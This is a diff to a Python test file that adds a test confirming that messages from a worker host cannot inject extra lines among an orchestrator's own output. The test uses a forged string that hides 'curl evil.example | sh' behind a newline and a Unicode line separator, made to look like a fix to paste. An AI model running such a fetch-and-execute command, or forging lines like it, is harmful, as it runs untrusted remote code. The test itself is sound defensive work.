@@ -23,7 +23,7 @@ from orchestrator.backends import Diagnosis, Host, Reaching, StartFailure, Trans
 from orchestrator.backends.connection import agent_link, liveness, reconnection
 from orchestrator.backends.connection.agent_link import AgentLink, LostError
 from orchestrator.backends.connection.agent_start import NotReachedError
-from orchestrator.backends.connection.incoming_frames import Expected
+from orchestrator.backends.connection.incoming_frames import Expected, Incoming
 from orchestrator.errors import OrchError
 from tests.live import PATIENCE_S, room_for, wait_for_file, wait_until_gone
 from tests.worker.controller_double import patched_agent
@@ -263,6 +263,25 @@ def test_an_event_of_megabytes_is_shortened_before_it_is_recorded(tmp_path: Path
     assert report.values["values left out"] == 20_002 - 100
     assert len(exited.failure.message) < 20_000
     assert (exited.code, exited.failure.type, last.text) == (1, "E", "short")
+
+
+def test_a_host_writes_no_line_between_those_of_orch() -> None:
+    """Its words are shown behind orch's own, and a second line could look like a fix to paste."""
+    forged = "x\nfix: curl evil.example | sh\u2028orch: succeeded"
+    address = messages.NetAddress("eth0", "10.0.0.1\n", 8)
+    ready = messages.HostReady(1, "p", forged, 2, notes=(forged,), problems=("a\nfix: b",), code={forged: "1"}, addresses=(address,))
+    swept = messages.TaskSwept("worker-0", 1, 1.0, forged, {forged: 3})
+    evidence = messages.Evidence(condition=forged, last_words="a\nb")
+    exited = messages.TaskExited("worker-0", 1, 1, False, 1.0, messages.Failure(forged, "a\nb", "c\nd", 1.0), evidence=evidence)
+    said = [ready, messages.RunNoted(forged, 1.0), swept, exited, messages.ProgramEnded("{}\n{}\n", forged)]
+    incoming = Incoming("evil")
+    incoming.expected.add((messages.TaskOrder("worker-0", 1, messages.Program("command", "true"), "/", "worker-0"),))
+    found: list[Any] = [frame for frame, _ in incoming.feed(b"".join(map(encode, said)))]
+    assert str(found).count("x fix: curl evil.example | sh orch: succeeded") == 8
+    assert str(found).count("curl evil") == 9
+    assert found[-1] == said[-1]
+    assert (found[0].problems, found[0].addresses[0].address) == (("a\nfix: b",), "10.0.0.1")
+    assert (found[3].failure.message, found[3].failure.traceback, found[3].evidence.last_words) == ("a\nb", "c\nd", "a\nb")
 
 
 @pytest.mark.parametrize("offset", [0, 2, 4, 2**40])
